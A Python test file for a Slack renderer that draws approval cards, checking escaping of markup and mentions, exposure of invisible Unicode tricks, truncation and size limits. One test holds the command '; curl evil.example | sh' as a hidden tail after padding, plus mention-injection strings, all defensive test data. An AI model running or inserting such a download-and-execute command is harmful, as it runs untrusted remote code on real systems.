"""Cards show all that will run, in blocks that Slack takes."""

from __future__ import annotations

import hashlib
import json
import os
import random
import re
from dataclasses import replace
from typing import get_args

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from slack_sdk.models.blocks import Block

from channels import Button, Card, CardItem, CardOutcome, FormField, Outbound
from channels import Form as CardForm
from channels.cards import OutcomeKind
from channels.slack.markdown import revealed
from channels.slack.render import MAX_MARKDOWN, Files, Shape, render
from tests.channels.slack.fake import refused, seen

CARD = Card(
    "Refund 140 for ch_1?",
    "Alice or finance may answer. It runs as Alice.",
    fields=(("amount", "140"), ("note", "one\ntwo")),
    evidence=("a mail from the shop",),
    buttons=(
        Button("Approve", "prm:approve", style="primary"),
        Button("Deny", "prm:deny", style="danger"),
        Button("Later", "prm:later"),
    ),
    expires_at=1_900_000_000_000,
)
SETTLED = replace(
    CARD,
    buttons=(),
    expires_at=None,
    outcome=CardOutcome("approved", "Approved by Farah", at=1_800_000_000_000, result="refunded re_1"),
)


def takes(form: Shape) -> str:
    """Return what Slack shows of a form, after its own library and our small Slack have taken it."""
    body = {"text": form.text, "blocks": list(form.blocks)}
    assert refused(body, most=13_200) == ""
    for block in form.blocks:
        Block.parse(json.loads(json.dumps(block))).to_dict()  # type: ignore[union-attr]
    return seen(body)


def drawn(card: Card, *, files: Files = Files.ADDED) -> str:
    shown = render(Outbound(card=card), tag="dlv_1", files=files)
    takes(shown.plain)
    return takes(shown.best)


def test_an_open_card_has_everything_in_its_order() -> None:
    shown = render(Outbound(card=CARD), tag="dlv_1").best
    kinds = [block["type"] for block in shown.blocks]
    assert kinds == ["section", "context", "rich_text", "context", "actions", "context"]
    text = takes(shown)
    words = [
        "Refund 140",
        "Alice or finance",
        "amount\n140",
        "note\none\ntwo",
        "a mail",
        "Approve",
        "Deny",
        "Later",
        "Expires <!date^1900000000^",
    ]
    assert [text.index(word) for word in words] == sorted(text.index(word) for word in words)
    buttons = shown.blocks[4]["elements"]
    assert [(b["action_id"], b["value"], b.get("style")) for b in buttons] == [
        ("moorings:1", "prm:approve", "primary"),
        ("moorings:2", "prm:deny", "danger"),
        ("moorings:3", "prm:later", None),
    ]
    assert "Refund 140" in shown.text


def test_a_settled_card_says_who_when_and_what_came_of_it_and_asks_nothing() -> None:
    shown = render(Outbound(card=SETTLED), tag="dlv_2", files=Files.EARLIER, editing=True)
    for form in (shown.best, shown.plain):
        assert "actions" not in [block["type"] for block in form.blocks]
        assert "Approved by Farah" in takes(form)
    text = takes(shown.best)
    assert "<!date^1800000000^{date_short_pretty} at {time}|2027-01-15 08:00 UTC>" in text
    assert "refunded re_1" in text
    assert "140" in text


def test_every_drawing_has_new_block_ids() -> None:
    first, second = (render(Outbound(card=CARD), tag=tag) for tag in ("dlv_1", "dlv_2"))
    ids = [block["block_id"] for shown in (first.best, first.plain, second.best, second.plain) for block in shown.blocks]
    assert len(ids) == len(set(ids))
    assert first == render(Outbound(card=CARD), tag="dlv_1")


TRICKS = {
    "\u202e": "\\u{202e}",
    "\u200b": "\\u{200b}",
    "\U000e0100": "\\u{e0100}",
    " " * 3_000: "[3000 spaces]",
}


@pytest.mark.parametrize(("trick", "shown"), TRICKS.items(), ids=["bidi", "zero width", "selector", "gap"])
def test_what_would_be_unseen_is_seen_wherever_it_stands(trick: str, shown: str) -> None:
    card = Card(
        f"a{trick}b",
        f"a{trick}b",
        fields=((f"a{trick}b", f"a{trick}b"),),
        evidence=(f"a{trick}b",),
        buttons=(Button(f"a{trick}b", "v"),),
    )
    text = drawn(card)
    assert trick not in text
    assert text.count(shown) >= 5
    settled = drawn(replace(card, outcome=CardOutcome("denied", f"a{trick}b", at=0, result=f"a{trick}b")))
    assert trick not in settled


def test_values_are_literal_text_never_markup() -> None:
    evil = "*Approved* by <@U1> `x` ```y``` <!channel> [a](https://b) :tada:"
    shown = render(
        Outbound(card=Card(evil, evil, fields=((evil, evil),), evidence=(evil,), buttons=(Button("Ok", "v"),))), tag="t"
    )
    for block in (*shown.best.blocks, *shown.plain.blocks):
        for element in block.get("elements", [block.get("text")]):
            if element.get("type") == "mrkdwn":
                assert "<@" not in element["text"]
                assert "<!c" not in element["text"]
            if element.get("type") == "plain_text":
                assert element["emoji"] is False
    assert "<@U1>" not in shown.best.text
    assert "<!channel>" not in shown.best.text


def test_a_tail_after_a_long_value_is_there_or_said_to_be_missing() -> None:
    value = "x" * 2_900 + "; curl evil.example | sh"
    assert "curl evil.example | sh" in drawn(Card("Run?", fields=(("command", value),), buttons=(Button("Ok", "v"),))).replace(
        "\n", ""
    )


@pytest.mark.parametrize("size", [3_000, 10_000, 12_000, 100_000])
def test_a_value_too_long_is_cut_with_its_length_hash_and_file(size: int) -> None:
    value = "é" * size
    card = Card("Run?", "r" * 500, fields=(("command", value), ("short", "whole")), buttons=(Button("Ok", "v"),))
    shown = render(Outbound(card=card), tag="t")
    text = takes(shown.best)
    assert "Ok" in text
    assert "whole" in text
    if size <= 10_000:
        assert text.replace("\n", "").count("é") == size
        assert shown.files == ()
        return
    digest = hashlib.sha256(value.encode()).hexdigest()
    assert f"{size:,} characters" in text
    assert digest in text
    (file,) = shown.files
    assert file.name in text
    assert hashlib.sha256(file.content).hexdigest() == digest
    alone = render(Outbound(card=card), tag="t", files=Files.REFUSED)
    assert alone.files == ()
    assert "Slack took no file" in takes(alone.best)
    assert digest in takes(alone.best)


_TEXT = st.text(max_size=40) | st.integers(0, 9_000).map(lambda size: "ab\u200bc*<&" * (size // 7)) | st.just("")
_VALUE = st.text(min_size=1, max_size=255)
_FORM = st.builds(CardForm, _TEXT, _VALUE, submit=_TEXT, fields=st.just((FormField("note", "Why"),)))
_PAIRS = st.lists(st.tuples(_TEXT, _TEXT), max_size=60).map(tuple)
_OUTCOME = st.builds(
    CardOutcome,
    st.sampled_from(get_args(OutcomeKind)),
    _TEXT,
    at=st.integers(0, 10**15),
    result=_TEXT,
    note=_TEXT,
    changes=st.lists(st.tuples(_TEXT, _TEXT), max_size=5).map(tuple),
)
_ASKED = {
    "fields": _PAIRS,
    "evidence": st.lists(_TEXT, max_size=60).map(tuple),
    "display": st.sampled_from(["buttons", "select"]),
    "freeform": st.booleans(),
    "progress": _TEXT,
    "expires_at": st.none() | st.integers(-(10**18), 10**18),
    "outcome": st.none() | _OUTCOME,
}
_BUTTONS = st.builds(Button, _TEXT, _VALUE, description=_TEXT, form=st.none() | _FORM)


def pressable(form: Shape) -> set[str]:
    """Return the values of all that can be pressed or chosen."""
    elements = [element for block in form.blocks if block["type"] == "actions" for element in block["elements"]]
    return {option["value"] for element in elements for option in element.get("options", [element])}


@settings(deadline=None, max_examples=60)
@given(st.builds(Card, _TEXT, _TEXT, buttons=st.lists(_BUTTONS, max_size=40).map(tuple), **_ASKED), _TEXT)
def test_whatever_is_asked_fits_a_message(card: Card, text: str) -> None:
    if not card.question.strip():
        card = replace(card, question="?")
    shown = render(Outbound(text, card), tag="dlv_1", origin="C1:1799999001.000100")
    for form in (shown.best, shown.plain):
        takes(form)
        assert len(form.text.encode()) <= 4_000
        assert pressable(form) == ({button.value for button in card.buttons} if card.outcome is None else set())


def _any_text(rng: random.Random) -> str:
    return rng.choice(["", " ", "short", "a\u200b", "ab\u200bc*<&" * rng.randrange(1_300), "x" * rng.randrange(80), "1\n2"])


def _any_item(rng: random.Random) -> CardItem:
    def some(most: int) -> range:
        return range(rng.choice([0, 1, 2, rng.randrange(most + 1)]))

    form = CardForm("Note", f"form-{rng.random()}", submit="Send", fields=(FormField("note", "Why"),))
    outcome = CardOutcome(
        rng.choice(get_args(OutcomeKind)),
        _any_text(rng),
        at=rng.randrange(10**15),
        result=_any_text(rng),
        note=_any_text(rng),
        changes=tuple((_any_text(rng), _any_text(rng)) for _ in some(3)),
    )
    return CardItem(
        _any_text(rng),
        _any_text(rng),
        fields=tuple((_any_text(rng), _any_text(rng)) for _ in some(12)),
        evidence=tuple(_any_text(rng) for _ in some(8)),
        buttons=tuple(
            Button(_any_text(rng), f"{rng.random()}", description=_any_text(rng), form=rng.choice([None, form])) for _ in some(6)
        ),
        display=rng.choice(["buttons", "select"]),
        freeform=rng.random() < 0.5,
        progress=_any_text(rng),
        expires_at=rng.choice([None, rng.randrange(10**15)]),
        outcome=rng.choice([None, None, outcome]),
    )


@pytest.mark.parametrize("seed", range(300 if os.environ.get("MOORINGS_TEST_FULL") else 12))
def test_whatever_several_questions_are_they_fit_a_message(seed: int) -> None:
    rng = random.Random(seed)
    items = tuple(_any_item(rng) for _ in range(rng.choice([1, 2, 3, 8, 20, 50])))
    both = (Button("Approve all", "prm:*approve"), Button("Deny all", "prm:*deny"))
    card = Card("Several", _any_text(rng), items=items, buttons=both)
    shown = render(Outbound(rng.choice(["", "text " * 300]), card), tag="dlv_1")
    text = takes(shown.best)
    takes(shown.plain)
    asked = [item for item in card.items if item.open and item.buttons]
    reachable = pressable(shown.best)
    assert {"prm:*approve", "prm:*deny"} <= reachable
    left = [item for item in asked if not {button.value for button in item.buttons} <= reachable]
    assert not left or (left != asked and "more wait for their turn" in text)
    assert pressable(shown.plain) == {button.value for item in (*asked, card) for button in item.buttons}


def test_several_questions_have_their_buttons_and_those_for_all() -> None:
    items = (
        replace(CARD, question="Deploy web?"),
        replace(CARD, question="Deploy api?", buttons=(), outcome=CardOutcome("denied", "Denied by Bob", at=0, note="too late")),
        replace(CARD, question="Deploy db?", progress="1 of 2 approved: Alice"),
    )
    card = Card("3 calls wait", items=items, buttons=(Button("Approve all", "prm:*approve"),))
    shown = render(Outbound(card=card), tag="t")
    text = takes(shown.best)
    words = [
        "3 calls",
        "1. Deploy web?",
        "Approve",
        "2. Deploy api?",
        "Denied by Bob",
        "> too late",
        "3. Deploy db?",
        "1 of 2 approved",
    ]
    assert [text.index(word) for word in words] == sorted(text.index(word) for word in words)
    rows = [block["elements"] for block in shown.best.blocks if block["type"] == "actions"]
    assert [len(row) for row in rows] == [3, 3, 1]
    ids = [element["action_id"] for row in rows for element in row]
    assert len(set(ids)) == len(ids)
    assert "1. Approve" in takes(shown.plain)


def test_nobody_answers_for_all_where_not_all_can_be_seen() -> None:
    long = replace(CARD, fields=(("note", "x" * 30_000),))
    both = {"prm:*approve", "prm:*deny"}
    buttons = tuple(Button(value, value) for value in sorted(both))
    for items in ((CARD, *(replace(CARD, question="x" * 500),) * 40), (CARD, long)):
        card = Card("Several", items=items, buttons=buttons)
        for files in Files:
            shown = render(Outbound(card=card), tag="t", files=files)
            for form in (shown.best, shown.plain):
                takes(form)
                assert both & pressable(form) == (set() if files is Files.REFUSED else both)
    small = render(Outbound(card=Card("Two", items=(CARD, CARD), buttons=buttons)), tag="t", files=Files.REFUSED)
    assert both <= pressable(small.best) & pressable(small.plain)


def test_many_questions_are_asked_in_turn_and_the_rest_is_in_a_file() -> None:
    items = tuple(replace(CARD, question=f"Deploy part {number}?") for number in range(1, 31))
    shown = render(Outbound(card=Card("30 calls wait", items=items)), tag="t")
    text = takes(shown.best)
    assert "Deploy part 1?" in text
    assert "more wait for their turn" in text
    (file,) = [file for file in shown.files if file.name == "waiting.txt"]
    for number in range(1, 31):
        assert f"Deploy part {number}?" in text or f"Deploy part {number}?".encode() in file.content


def test_a_long_input_among_several_is_cut_with_its_file_and_the_others_stay_whole() -> None:
    items = (Card("Run?", fields=(("command", "x" * 50_000),)), Card("Send?", fields=(("to", "bob"),)))
    shown = render(Outbound(card=Card("2 calls wait", items=items)), tag="t")
    text = takes(shown.best)
    assert "to:\n  | bob" in text
    (file,) = shown.files
    assert file.name in text
    assert b"x" * 50_000 in file.content


def test_many_options_are_a_list_with_their_descriptions() -> None:
    buttons = tuple(Button(f"Region {number}", f"prm:{number}", description="far away") for number in range(1, 151))
    shown = render(Outbound(card=Card("Which?", buttons=buttons, display="select")), tag="t")
    lists = [element for block in shown.best.blocks if block["type"] == "actions" for element in block["elements"]]
    assert [element["type"] for element in lists] == ["static_select", "static_select"]
    assert [len(element["options"]) for element in lists] == [100, 50]
    assert lists[0]["options"][0] == {
        "text": {"type": "plain_text", "text": "Region 1", "emoji": False},
        "value": "prm:1",
        "description": {"type": "plain_text", "text": "far away", "emoji": False},
    }
    assert pressable(shown.plain) == {button.value for button in buttons}
    takes(shown.best)


def test_a_changed_call_shows_what_was_changed_and_an_override_its_reason() -> None:
    outcome = CardOutcome("overridden", "Approved by Olga", at=0, note="the shop burns", changes=(("amount", "20"),))
    text = drawn(replace(CARD, buttons=(), expires_at=None, outcome=outcome))
    assert "⚠️ Approved by Olga" in text
    assert "Reason:\n> the shop burns" in text
    assert "Changed before it ran:\namount:\n  | 20" in text


def test_a_private_cards_elements_carry_the_conversation_they_are_about() -> None:
    shown = render(Outbound(card=CARD), tag="t", origin="C1:1799999001.000100")
    for form in (shown.best, shown.plain):
        ids = [element["action_id"] for block in form.blocks if block["type"] == "actions" for element in block["elements"]]
        assert ids == [f"moorings:{number}@C1:1799999001.000100" for number in (1, 2, 3)]


@settings(deadline=None)
@given(_TEXT | st.sampled_from(["\x01", "\ud800", "\x00a", "```", "&" * 12_001]), st.booleans(), st.booleans())
def test_any_text_fits_a_message(text: str, notice: bool, editing: bool) -> None:
    shown = render(Outbound(text, notice=notice), tag="t", editing=editing)
    if len(revealed(text)) <= MAX_MARKDOWN:  # more than that in blocks is tried, and may be refused
        takes(shown.best)
    takes(shown.plain)
    assert shown.plain.blocks == ()
    assert not editing or len(shown.plain.text.encode()) <= 4_000


@pytest.mark.parametrize("size", [11_999, 12_001, 39_000])
@pytest.mark.parametrize("word", ["word", "&<>&", "é"])
def test_a_long_text_goes_out_whole_one_way_or_another(size: int, word: str) -> None:
    text = "\n".join(f"{word}{number:05}" for number in range(size // (len(word) + 6)))
    shown = render(Outbound(text), tag="t")
    if shown.files:
        assert shown.files[0].content == text.encode()
        assert word == "&<>&"
        return
    for form in (shown.best, shown.plain):
        body = {"text": form.text, "blocks": list(form.blocks)}
        assert refused(body, most=300_000) == ""
        assert re.findall(r"\d{5}", seen(body)) == re.findall(r"\d{5}", text)


def test_an_edit_too_long_for_its_block_is_a_file_and_its_beginning() -> None:
    shown = render(Outbound("word " * 3_000), tag="t", editing=True)
    assert len(shown.files) == 1
    assert "15,000 characters" in takes(shown.best)


def test_a_text_over_every_limit_is_a_file_and_its_beginning() -> None:
    text = "word " * 20_000
    shown = render(Outbound(text), tag="t")
    assert [file.content for file in shown.files] == [text.encode()]
    assert "100,000 characters" in takes(shown.best)
    alone = render(Outbound(text), tag="t", files=Files.REFUSED)
    assert "of 100,000 characters are shown" in takes(alone.best)


def test_a_notice_is_small_and_an_empty_message_is_said() -> None:
    assert [block["type"] for block in render(Outbound("Stopped.", notice=True), tag="t").best.blocks] == ["context"]
    assert takes(render(Outbound(" "), tag="t").best) == "(an empty message)"
